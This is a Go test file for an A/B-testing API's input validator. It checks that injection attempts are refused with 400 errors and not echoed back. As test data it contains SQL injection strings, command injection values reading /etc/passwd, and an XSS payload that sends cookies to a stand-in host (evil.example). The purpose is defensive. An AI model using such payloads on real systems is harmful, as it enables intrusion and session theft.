package api

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus/testutil"

	"github.com/abacus-ab/abacus/internal/validate"
)

// newValidatingHarness is newHarness with the default input validator.
func newValidatingHarness(t *testing.T, cfg Config) *harness {
	t.Helper()
	v, err := validate.New(validate.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	return newHarnessWith(t, cfg, func(_ *harness, d *Deps) { d.Validator = v })
}

// TestInputValidation checks what users see: attacks in any field, query
// or path parameter are refused with 400 naming the field and the rule and
// never echoing the value; honest text that naive filters flag passes;
// variant configurations (prompts, HTML) are exempt.
func TestInputValidation(t *testing.T) {
	h := newValidatingHarness(t, Config{})
	create := func(name, description, config string) (int, []byte) {
		body := `{"test_name": ` + q(name) + `, "description": ` + q(description) + `, "test_type": "prompt",
		  "variants": [
		    {"variant_id": "control", "variant_name": "Control", "configuration": ` + config + `, "traffic_percentage": 50},
		    {"variant_id": "b", "variant_name": "B", "configuration": {}, "traffic_percentage": 50}],
		  "control_variant_id": "control", "primary_metric": "conversion"}`
		return h.doRaw(http.MethodPost, "/api/ab-testing/tests", "application/json", body)
	}
	rejected := []struct {
		name, testName, description, wantField, wantRule string
	}{
		{"sql injection in the name", "x' OR '1'='1' --", "", "test_name", "sql_injection"},
		{"xss in the description", "XSS", `<script>document.location='https://evil.example/'+document.cookie</script>`, "description", "xss"},
		{"url-encoded xss", "XSS", `%3Cscript%3Ealert(1)%3C%2Fscript%3E`, "description", "xss"},
		{"command injection", "Cmd", "report; cat /etc/passwd", "description", "command_injection"},
	}
	for _, tt := range rejected {
		t.Run(tt.name, func(t *testing.T) {
			code, raw := create(tt.testName, tt.description, `{}`)
			var e errorBody
			if err := json.Unmarshal(raw, &e); err != nil || code != http.StatusBadRequest || e.Field != tt.wantField || e.Rule != tt.wantRule {
				t.Fatalf("create = %d %s, want 400 with field %q and rule %q", code, raw, tt.wantField, tt.wantRule)
			}
			payload := tt.testName
			if tt.description != "" {
				payload = tt.description
			}
			if strings.Contains(string(raw), payload) {
				t.Errorf("the answer echoes the rejected value: %s", raw)
			}
		})
	}
	if n := testutil.ToFloat64(h.api.inputRejections.WithLabelValues("sql_injection")); n != 1 {
		t.Errorf("abacus_input_rejected_total{rule=sql_injection} = %v, want 1", n)
	}

	// Honest input that naive filters refuse.
	code, raw := create("O'Brien's checkout: select the best of 2 (drop-off < 5%)",
		"Union of the old flow and the new one; delete nothing. If x > 1 or 1=1 in prose, it costs $5 | see https://example.com/a?b=1&c=2 — 日本語 ✅",
		`{"prompt": "SELECT name FROM users WHERE id = 1; -- answer in <b>HTML</b>", "system": "$(whoami) is just text here"}`)
	if code != http.StatusCreated {
		t.Fatalf("honest create = %d %s, want 201", code, raw)
	}
	var created map[string]any
	if err := json.Unmarshal(raw, &created); err != nil {
		t.Fatal(err)
	}
	id := created["test_id"].(string)
	code, raw = h.doRaw(http.MethodGet, "/api/ab-testing/tests/"+id, "", "")
	if code != http.StatusOK || !strings.Contains(string(raw), "SELECT name FROM users WHERE id = 1; -- answer in \\u003cb\\u003eHTML\\u003c/b\\u003e") {
		t.Errorf("GET = %d %s: the configuration must come back as stored", code, raw)
	}

	// Null bytes are removed from free text, refused in identifiers.
	code, raw = create("Null\\u0000byte", "", `{}`)
	if code != http.StatusCreated || !strings.Contains(string(raw), `"test_name":"Nullbyte"`) {
		t.Errorf("null byte in a name = %d %s, want 201 with it removed", code, raw)
	}
	code, raw = h.doRaw(http.MethodPost, "/api/ab-testing/tests/"+id+"/assign", "application/json", `{"user_id": "u\u00001"}`)
	if e := decodeError(t, raw); code != http.StatusBadRequest || e.Field != "user_id" || e.Rule != "null_byte" {
		t.Errorf("null byte in user_id = %d %s, want 400 null_byte on user_id", code, raw)
	}

	// Query and path parameters.
	code, raw = h.doRaw(http.MethodGet, "/api/ab-testing/tests?status=%3Cscript%3Ealert(1)%3C/script%3E", "", "")
	if e := decodeError(t, raw); code != http.StatusBadRequest || e.Field != "query.status" || e.Rule != "xss" {
		t.Errorf("xss in a query parameter = %d %s", code, raw)
	}
	code, raw = h.doRaw(http.MethodGet, "/api/ab-testing/tests/x%27%20OR%20%271%27=%271", "", "")
	if e := decodeError(t, raw); code != http.StatusBadRequest || e.Field != "path.test_id" {
		t.Errorf("injection in a path parameter = %d %s", code, raw)
	}

	// Nesting: a crafted body cannot exhaust the stack.
	deep := strings.Repeat(`{"a":`, 200) + `1` + strings.Repeat(`}`, 200)
	code, raw = create("Deep", "", deep)
	if e := decodeError(t, raw); code != http.StatusBadRequest || e.Rule != "max_depth" {
		t.Errorf("200 levels of nesting = %d %s, want 400 max_depth", code, raw)
	}
}

// TestBodyLimitsBeforeAuthentication checks that an oversized body is
// refused (413) before anything reads it, with or without a key, and that
// an anonymous request's body is not scanned: it gets 401, not 400.
func TestBodyLimitsBeforeAuthentication(t *testing.T) {
	h := newValidatingHarness(t, Config{MaxBodyBytes: 2048})
	big := `{"test_name": "` + strings.Repeat("a", 4096) + `"}`
	for _, key := range []string{h.key, ""} {
		hdr := map[string]string{}
		if key != "" {
			hdr[HeaderAPIKey] = key
		}
		resp, raw := h.call(http.MethodPost, "/api/ab-testing/tests", big, hdr)
		if resp.StatusCode != http.StatusRequestEntityTooLarge || !strings.Contains(string(raw), `"error"`) {
			t.Errorf("oversized body (key %v) = %d %s, want 413", key != "", resp.StatusCode, raw)
		}
	}
	resp, raw := h.call(http.MethodPost, "/api/ab-testing/tests", `{"test_name": "x' OR '1'='1' --"}`, nil)
	if resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("anonymous body with an attack = %d %s, want 401 (bodies are read only after authentication)", resp.StatusCode, raw)
	}
}

// TestSecurityHeaders checks the headers on a success, an error and a
// rejection, and that no server banner is sent.
func TestSecurityHeaders(t *testing.T) {
	h := newValidatingHarness(t, Config{})
	for _, path := range []string{"/healthz", "/api/ab-testing/tests", "/api/ab-testing/tests/missing", "/api/ab-testing/tests?status=%3Cscript%3E"} {
		resp, _ := h.call(http.MethodGet, path, "", map[string]string{HeaderAPIKey: h.key})
		if resp.Header.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(resp.Header.Get("Content-Security-Policy"), "default-src 'none'") {
			t.Errorf("GET %s (%d): security headers %v", path, resp.StatusCode, resp.Header)
		}
		if s := resp.Header.Get("Server"); s != "" {
			t.Errorf("GET %s: Server header %q, want none", path, s)
		}
	}
}

func q(s string) string {
	b, _ := json.Marshal(s)
	return strings.ReplaceAll(string(b), `\\u0000`, `\u0000`)
}

func decodeError(t *testing.T, raw []byte) errorBody {
	t.Helper()
	var e errorBody
	if err := json.Unmarshal(raw, &e); err != nil {
		t.Fatalf("error body %q: %v", raw, err)
	}
	return e
}

// TestValidationCoversEveryJSONType checks that a JSON body is validated
// under any media type the handlers accept as JSON (application/*+json).
func TestValidationCoversEveryJSONType(t *testing.T) {
	h := newValidatingHarness(t, Config{})
	body := strings.Replace(validCreate, `"Checkout flow"`, `"<script>alert(document.cookie)</script>"`, 1)
	for _, ct := range []string{"application/json", "application/vnd.abacus+json", "Application/JSON; charset=utf-8"} {
		code, raw := h.doRaw(http.MethodPost, "/api/ab-testing/tests", ct, body)
		if e := decodeError(t, raw); code != http.StatusBadRequest || e.Rule != "xss" {
			t.Errorf("Content-Type %q: %d %s, want 400 xss", ct, code, raw)
		}
	}
}

// TestTruncatedBody checks that a body cut short by the client is a 400,
// not a server error.
func TestTruncatedBody(t *testing.T) {
	h := newValidatingHarness(t, Config{})
	conn, err := net.Dial("tcp", strings.TrimPrefix(h.http.URL, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprintf(conn, "POST /api/ab-testing/tests HTTP/1.1\r\nHost: x\r\nX-API-Key: %s\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{\"test_name\":", h.key)
	conn.(*net.TCPConn).CloseWrite()
	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatal(err)
	}
	raw, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusBadRequest || !strings.Contains(string(raw), "truncated") {
		t.Errorf("truncated body = %d %s, want 400 saying it is truncated", resp.StatusCode, raw)
	}
}

// TestBatchEventsAreValidated checks that a batch's events are validated
// one by one, in JSON and NDJSON: an attack is rejected with its rule and
// field, and the other events are accepted.
func TestBatchEventsAreValidated(t *testing.T) {
	h := newValidatingHarness(t, Config{})
	id := h.createRunning()
	events := []string{
		`{"type": "assignment", "test_id": "` + id + `", "user_id": "x' OR '1'='1' --"}`,
		`{"type": "assignment", "test_id": "` + id + `", "user_id": "honest-1"}`,
		`{"type": "result", "test_id": "` + id + `", "user_id": "honest-1", "metrics": {"conversion": 1}, "event_id": "<script>alert(1)</script>"}`,
		`{"type": "assignment", "test_id": "` + id + `", "user_id": "a; cat /etc/passwd"}`,
	}
	for _, tt := range []struct{ ct, body string }{
		{"application/json", "[" + strings.Join(events, ",") + "]"},
		{"application/x-ndjson", strings.Join(events, "\n")},
	} {
		code, raw := h.doRaw(http.MethodPost, "/api/ab-testing/events", tt.ct, tt.body)
		var resp struct {
			Accepted, Rejected int
			Results            []struct {
				Status, Field, Rule string
			}
		}
		if err := json.Unmarshal(raw, &resp); err != nil || code != http.StatusMultiStatus || resp.Accepted != 1 || resp.Rejected != 3 {
			t.Fatalf("%s batch = %d %s, want 207 with 1 accepted and 3 rejected", tt.ct, code, raw)
		}
		want := []struct{ status, field, rule string }{
			{"rejected", "user_id", "sql_injection"}, {"accepted", "", ""}, {"rejected", "event_id", "xss"}, {"rejected", "user_id", "command_injection"},
		}
		for i, w := range want {
			if r := resp.Results[i]; r.Status != w.status || r.Field != w.field || r.Rule != w.rule {
				t.Errorf("%s results[%d] = %+v, want %+v", tt.ct, i, r, w)
			}
		}
		if strings.Contains(string(raw), "cat /etc/passwd") || strings.Contains(string(raw), "<script>") {
			t.Errorf("the answer echoes a rejected value: %s", raw)
		}
	}
}
